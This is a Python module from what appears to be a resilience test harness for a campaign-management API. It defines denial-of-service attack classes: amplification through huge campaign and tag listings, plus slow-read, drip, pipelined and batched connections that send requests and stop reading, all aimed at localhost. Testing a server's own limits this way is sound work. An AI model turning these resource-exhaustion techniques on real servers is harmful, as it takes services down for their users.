# SPDX-License-Identifier: Apache-2.0
"""Attacks by what the server has to send."""
import asyncio, json, socket, time
from .attack import Attack
from .connection import post

LONG = "A long text. "


def campaign_with_full_texts(account):
    """A campaign whose every text is as long as it may be: its id."""
    campaign = account.must("campaign.create", CampaignName="Full")["CampaignID"]
    listed = account.must("list.create", SubscriberListName="People")["ListID"]
    rules = json.dumps({"operator": "and", "criteria": [{"list_id": listed, "operator": "and", "rules": [
        {"type": "fields", "field_id": "EmailAddress", "operator": "contains", "value": "example"}]}]})
    lists = ",".join([f"{listed}:0"] * (65_000 // (len(str(listed)) + 3)))
    texts = {name: (LONG * 1000)[:10_000] for name in (
        "CampaignStatusReason", "ApprovalUserExplanation", "GoogleAnalyticsDomains")}
    texts |= {"RulesJsonBundle": rules + " " * (65_000 - len(rules)), "RecipientListsAndSegments": lists,
              "Exclude_RecipientListsAndSegments": lists}
    for name, text in texts.items():
        account.call("campaign.update", CampaignID=campaign, **{name: text})
    return campaign


class BigReplies(Attack):
    name = "big-replies"
    says = "campaigns.get of 2,000 copies of a campaign with full texts, read by 2 connections"
    sources = ["127.0.1.1"] * 2

    def prepare(self, target):
        account = target.attacker
        campaign = campaign_with_full_texts(account)
        copies, refusal = account.repeat("campaign.copy", {"CampaignID": campaign}, 2000)
        self.request = post(json.dumps({"Command": "campaigns.get", "APIKey": account.key}).encode())
        return f"{copies:,} copies" + (f", then {refusal.get('message', refusal)}" if refusal else "")

    async def act(self, worker):
        while worker.goes_on:
            await worker.ask(self.request)


class ManyTags(Attack):
    name = "many-tags"
    says = "tags.get of 200,000 tags, over 4 connections"
    sources = ["127.0.1.1"] * 4

    def prepare(self, target):
        made = 0
        while made < 200_000:
            results = target.attacker.batch([("tag.create", {"Tag": f"tag {made + number}"}) for number in range(100)])
            refused = [result["error"] for result in results if "error" in result]
            made += len(results) - len(refused)
            if refused:
                break
        self.request = post(json.dumps({"Command": "tags.get", "APIKey": target.attacker.key}).encode())
        return f"{made:,} tags" + (f", then {refused[0].get('message')}" if refused else "")

    async def act(self, worker):
        while worker.goes_on:
            await worker.ask(self.request)


class SlowReaders(BigReplies):
    name = "slow-readers"
    says = "40 connections that send campaigns.get and read nothing"
    sources = [f"127.0.1.{1 + number % 4}" for number in range(40)]

    async def act(self, worker):
        connection = worker.connection
        while worker.goes_on:
            worker.tally.sent += 1
            try:
                await self.send(connection)
                while worker.goes_on and not await self.is_cut(connection):
                    await asyncio.sleep(0.5)
            except OSError:
                pass
            worker.tally.told["connection closed" if worker.goes_on else "kept waiting"] += 1
            connection.close()
            await asyncio.sleep(0.2)

    async def send(self, connection):
        """Sends the call, and stops reading: the kernel's buffer is as small as it may be."""
        connection.close()
        plain = socket.socket()
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        plain.setblocking(False)
        plain.bind((connection.source, 0))
        connection.writer = plain  # It has the close() that is asked of it.
        loop = asyncio.get_running_loop()
        await loop.sock_connect(plain, ("127.0.0.1", connection.port))
        await loop.sock_sendall(plain, self.request)

    async def is_cut(self, connection):
        """Whether the server has closed or reset the connection."""
        try:
            return connection.writer.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] != 1  # 1 is ESTABLISHED.
        except OSError:
            return True


class Drips(SlowReaders):
    name = "drips"
    says = "the same, each reading 512 bytes a second"

    async def is_cut(self, connection):
        try:
            return not await asyncio.get_running_loop().sock_recv(connection.writer, 512)
        except OSError:
            return True


class Pipelines(SlowReaders):
    name = "pipelines"
    says = "40 connections that send 2,000 calls of campaigns.get in a row and read nothing"

    def prepare(self, target):
        note = super().prepare(target)
        self.request = self.request * 2000
        return note


class Batches(SlowReaders):
    name = "batches"
    says = "40 connections that send batches of 100 campaigns.get and read nothing"

    def prepare(self, target):
        note = super().prepare(target)
        self.request = post(json.dumps([
            {"jsonrpc": "2.0", "id": number, "method": "campaigns.get", "params": {"RecordsPerRequest": 10}} for number in range(100)
        ]).encode(), "/rpc", target.attacker.key)
        return note
